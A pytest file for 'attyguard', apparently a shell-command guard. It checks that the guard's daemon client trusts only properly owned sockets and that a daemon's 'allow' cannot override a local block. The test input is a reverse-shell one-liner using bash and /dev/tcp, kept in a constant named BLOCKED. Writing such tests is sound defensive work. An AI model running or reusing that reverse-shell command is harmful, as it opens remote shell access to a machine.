"""The daemon client asks only a socket served by root (or the daemon user) in a directory
no one else can write (SO_PEERCRED, real Unix sockets, real processes), and a daemon's
verdict can raise the local one, never lower it (issue 9, family 10)."""

from __future__ import annotations

import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from attyguard.daemon.client import DaemonClient
from attyguard.engine.classify import classify
from attyguard.engine.verdict import Action, Source
from attyguard.guard import Guard

IS_ROOT = os.geteuid() == 0
BLOCKED = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"

# A fake daemon that answers "allow" to everything and counts the requests it got.
# It binds, then (optionally) drops to another uid before listen(): SO_PEERCRED
# reports the listener's credentials as of listen().
_FAKE = r"""
import os, socket, sys, json
path, uid, count = sys.argv[1], int(sys.argv[2]), sys.argv[3]
sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
sock.bind(path)
os.chmod(path, 0o666)
if uid >= 0:
    os.setgid(uid); os.setuid(uid)
sock.listen(8)
print("ready", flush=True)
n = 0
while True:
    conn, _ = sock.accept()
    f = conn.makefile("rb")
    for line in f:
        req = json.loads(line)
        n += 1
        with open(count, "w") as out:
            out.write(str(n))
        reply = {"v": 1, "id": req.get("id"), "ok": True,
                 "verdict": {"action": "allow", "rules": [], "source": "daemon"}}
        conn.sendall(json.dumps(reply).encode() + b"\n")
    conn.close()
"""


@pytest.fixture
def sockdir() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="agp-", dir="/tmp"))  # short: sun_path is 108 bytes
    path.chmod(0o755)
    try:
        yield path
    finally:
        import shutil

        shutil.rmtree(path, ignore_errors=True)


def _fake(directory: Path, uid: int = -1) -> tuple[subprocess.Popen[str], str, Path]:
    sock = str(directory / "d.sock")
    count = directory / "count"
    count.write_text("0")
    count.chmod(0o666)
    proc = subprocess.Popen([sys.executable, "-c", _FAKE, sock, str(uid), str(count)],
                            stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    if proc.stdout.readline().strip() != "ready":  # blocks until it listens (or dies)
        proc.kill()
        proc.wait(5)
        raise AssertionError("the fake daemon did not start")
    return proc, sock, count


def _stop(proc: subprocess.Popen[str]) -> None:
    proc.kill()
    proc.wait(10)


@pytest.mark.skipif(not IS_ROOT, reason="serving a socket as another uid needs root")
def test_socket_served_by_another_user_is_not_asked(sockdir: Path) -> None:
    proc, sock, count = _fake(sockdir, uid=65534)
    try:
        client = DaemonClient(sock, 2000)
        assert client.classify("ls") is None
        assert client.state.startswith("unavailable: not asked: the socket is served by uid 65534")
        assert "\n" not in client.state
        assert count.read_text() == "0"  # nothing was ever sent to it
        guard = Guard(classify, daemon=client)
        assert guard.decide(BLOCKED).action is Action.BLOCK
    finally:
        _stop(proc)


def test_socket_in_a_world_writable_directory_is_not_asked(sockdir: Path) -> None:
    proc, sock, count = _fake(sockdir)
    try:
        sockdir.chmod(0o777)
        client = DaemonClient(sock, 2000)
        assert client.classify("ls") is None
        assert "writable by others" in client.state
        assert count.read_text() == "0"
    finally:
        _stop(proc)


def test_daemon_user_may_serve_it(sockdir: Path) -> None:
    if not IS_ROOT:
        pytest.skip("serving a socket as another uid needs root")
    import pwd

    nobody = pwd.getpwuid(65534).pw_name
    proc, sock, count = _fake(sockdir, uid=65534)
    try:
        client = DaemonClient(sock, 2000, daemon_user=nobody)
        assert client.classify("ls") is not None, client.state
        assert client.state == "connected"
        assert count.read_text() == "1"
    finally:
        _stop(proc)


def test_trusted_daemon_answering_allow_cannot_lower_a_local_block(sockdir: Path) -> None:
    proc, sock, count = _fake(sockdir)  # as whoever runs the tests: root in CI
    try:
        client = DaemonClient(sock, 2000, daemon_user=_me())
        guard = Guard(classify, daemon=client)
        verdict = guard.decide(BLOCKED)
        assert count.read_text() == "1"  # it was asked, and answered allow
        assert verdict.action is Action.BLOCK and verdict.source is Source.LOCAL
        assert any("daemon answered allow" in n for n in verdict.notes)
        allowed = guard.decide("ls -la")
        assert allowed.action is Action.ALLOW and allowed.source is Source.DAEMON
    finally:
        _stop(proc)


def test_unknown_daemon_user_is_one_line(sockdir: Path) -> None:
    client = DaemonClient(str(sockdir / "x.sock"), 50, daemon_user="no-such-user-xyz")
    assert client.user_problem is not None and "does not exist" in client.user_problem


def _me() -> str:
    import pwd

    return pwd.getpwuid(os.geteuid()).pw_name


@pytest.mark.skipif(not IS_ROOT, reason="serving a socket as another uid needs root")
def test_warn_subscriber_does_not_listen_to_another_users_socket(sockdir: Path) -> None:
    from attyguard.daemon.client import WarnSubscriber

    proc, sock, count = _fake(sockdir, uid=65534)
    try:
        events: list[str] = []
        sub = WarnSubscriber(sock, events.append)
        assert sub._subscribe_once() is False  # one connection's life, synchronously
        assert count.read_text() == "0" and events == []
    finally:
        _stop(proc)
